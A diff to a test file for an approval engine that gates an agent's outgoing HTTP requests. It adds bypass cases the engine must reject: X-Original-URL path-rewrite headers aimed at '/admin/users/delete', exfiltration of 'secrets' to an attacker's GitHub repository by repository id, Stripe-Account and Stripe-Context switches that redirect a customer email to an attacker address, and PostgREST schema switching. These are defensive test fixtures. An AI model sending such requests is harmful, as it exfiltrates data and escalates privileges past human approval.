@@ -230,6 +230,12 @@ t.test('a grant covers the approved scheme and port only: another port of the ho
   const same = at('http://svc.example:8080/jobs');
   same.grants = queue.matchingGrants(same);
   t.match(await engine.decide(same), { action: 'allow' }, 'the approved port is covered');
+  // The approved path, but a header IIS URL Rewrite (and older Symfony) takes the path from instead.
+  for (const name of ['X-Original-URL', 'x-rewrite-url', 'X_Original_URL']) {
+    const rewritten = describeRequest({ method: 'POST', url: 'http://svc.example:8080/jobs', headers: [['content-type', 'text/plain'], [name, '/admin/users/delete']], body: Buffer.from('x'), bodyTruncated: false }, { agent: { id: 'agent', labels: {} } });
+    rewritten.grants = queue.matchingGrants(rewritten);
+    t.match(await engine.decide(rewritten), { action: 'approve', grants: { offered: [], withheld: [{ reason: /cannot be read \(path:rewritten\)/ }] } }, `${name}: the engine withholds the grant`);
+  }
   for (const url of ['http://svc.example:9090/jobs', 'https://svc.example:8080/jobs', 'http://svc.example/jobs']) {
     const other = at(url);
     other.grants = queue.matchingGrants(other);
@@ -253,7 +259,11 @@ t.test('a grant covers the place it was approved for: another repository, channe
       req('POST', 'https://api.github.com/repos/acme/widgets/issues/1/comments', 'application/json', json({ body: 'ok' })),
       req('POST', 'https://api.github.com/repos/acme/widgets/issues/2/comments', 'application/json', json({ body: 'also' })),
       // An attacker's public repository is an exfiltration channel.
-      [req('POST', 'https://api.github.com/repos/attacker/inbox/issues/1/comments', 'application/json', json({ body: 'secrets' }))],
+      [
+        req('POST', 'https://api.github.com/repos/attacker/inbox/issues/1/comments', 'application/json', json({ body: 'secrets' })),
+        // The same route by repository id (GitHub serves /repositories/{id}/… as /repos/{owner}/{repo}/…).
+        req('POST', 'https://api.github.com/repositories/1296269/issues/1/comments', 'application/json', json({ body: 'secrets' })),
+      ],
     ],
     [
       req('POST', 'https://slack.com/api/chat.postMessage', 'application/json', json({ channel: 'C0TEAM', text: 'build green' })),
@@ -268,13 +278,21 @@ t.test('a grant covers the place it was approved for: another repository, channe
     [
       req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.1', 'application/json', json({ done: true })),
       req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.2', 'application/json', json({ done: true })),
-      [req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/profiles?id=eq.2', 'application/json', json({ role: 'admin' }))],
+      [
+        req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/profiles?id=eq.2', 'application/json', json({ role: 'admin' })),
+        // The same table name in another exposed schema (PostgREST's Content-Profile picks it).
+        req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.2', 'application/json', json({ done: true }), [['content-profile', 'billing']]),
+      ],
     ],
     [
       // Stripe Connect: the same update on another connected account (Stripe-Account) is elsewhere.
       req('POST', 'https://api.stripe.com/v1/customers/cus_1', 'application/x-www-form-urlencoded', 'name=Jenny'),
       req('POST', 'https://api.stripe.com/v1/customers/cus_2', 'application/x-www-form-urlencoded', 'name=Jen'),
-      [req('POST', 'https://api.stripe.com/v1/customers/cus_1', 'application/x-www-form-urlencoded', 'email=drop%40attacker.example', [['stripe-account', 'acct_1OtherAccount']])],
+      [
+        req('POST', 'https://api.stripe.com/v1/customers/cus_1', 'application/x-www-form-urlencoded', 'email=drop%40attacker.example', [['stripe-account', 'acct_1OtherAccount']]),
+        // Stripe-Context (organization keys, API v2) names the account a request acts in, too.
+        req('POST', 'https://api.stripe.com/v1/customers/cus_1', 'application/x-www-form-urlencoded', 'email=drop%40attacker.example', [['stripe-context', 'acct_1OtherAccount']]),
+      ],
     ],
     [
       req('POST', 'https://hooks.slack.com/services/T0TEAM/B0BUILD/abcdefabcdef', 'application/json', json({ text: 'build green' })),
@@ -294,7 +312,10 @@ t.test('a grant covers the place it was approved for: another repository, channe
     [
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 1 })),
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 2 })),
-      [req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/purge_accounts', 'application/json', json({}))],
+      [
+        req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/purge_accounts', 'application/json', json({})),
+        req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 2 }), [['content-profile', 'internal']]),
+      ],
     ],
   ];
   for (const [approved, again, elsewhere] of cases) {
